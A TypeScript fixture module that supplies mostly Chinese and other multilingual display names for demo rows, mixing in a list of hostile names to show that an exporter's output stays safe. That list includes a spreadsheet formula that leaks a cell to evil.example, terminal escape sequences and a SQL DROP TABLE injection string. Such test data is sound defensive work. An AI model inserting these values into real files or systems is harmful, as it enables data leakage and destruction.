// Display names for generated viewers, senders and receivers: mostly CJK, some other scripts, and a few
// hostile strings (quotes, separators, newlines, spreadsheet formulas, terminal escapes) so that a demo
// shows the exporter's output stays safe. Making them safe is the output layer's job, not the sandbox's.

const ORDINARY: readonly string[] = [
  '张伟', '王芳', '李娜', '刘洋', '陈静', '杨磊', '赵敏', '黄晓明', '周杰', '吴婷', '徐丽', '孙强', '马超', '朱琳',
  '胡军', '郭靖', '林小红', '何雪', '高峰', '罗丹', '梁思成', '宋佳', '郑爽', '谢娜', '韩梅梅', '唐宁', '冯程程',
  '欧阳娜娜', '司马懿', '诸葛亮', 'Alice Wang', 'Bob Li', 'Émilie', 'José Núñez', 'さくら', '김민준', 'Олег',
  '🐼熊猫', '小明 (Xiaoming)', 'Zoë',
];

/** Rows that must come out of every sink intact but harmless. */
export const HOSTILE_NAMES: readonly string[] = [
  'Robert "Bobby" Tables',
  'Smith, John',
  'line one\nline two',
  '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
  '+1',
  '-2',
  '@SUM(A1:A9)',
  '\u001b[31mred alert\u001b[0m',
  '\u001b]0;pwn\u0007',
  'tab\tin\tname',
  '\r=cr first',
  "O'Brien; DROP TABLE viewers;--",
];

const escape = (names: readonly string[]): string[] => names.map((n) => JSON.stringify(n));

/** JSON string literals, quotes included, built once so a page of rows is string concatenation only. */
export const ORDINARY_JSON: readonly string[] = escape(ORDINARY);
export const HOSTILE_JSON: readonly string[] = escape(HOSTILE_NAMES);

/** A name literal for a row hash: roughly one row in 64 gets a hostile name. */
export function nameJson(hash: number): string {
  if ((hash & 63) === 0) return HOSTILE_JSON[(hash >>> 6) % HOSTILE_JSON.length] as string;
  return ORDINARY_JSON[(hash >>> 6) % ORDINARY_JSON.length] as string;
}

/** The same choice as `nameJson`, as the plain string. */
export function nameText(hash: number): string {
  return JSON.parse(nameJson(hash)) as string;
}
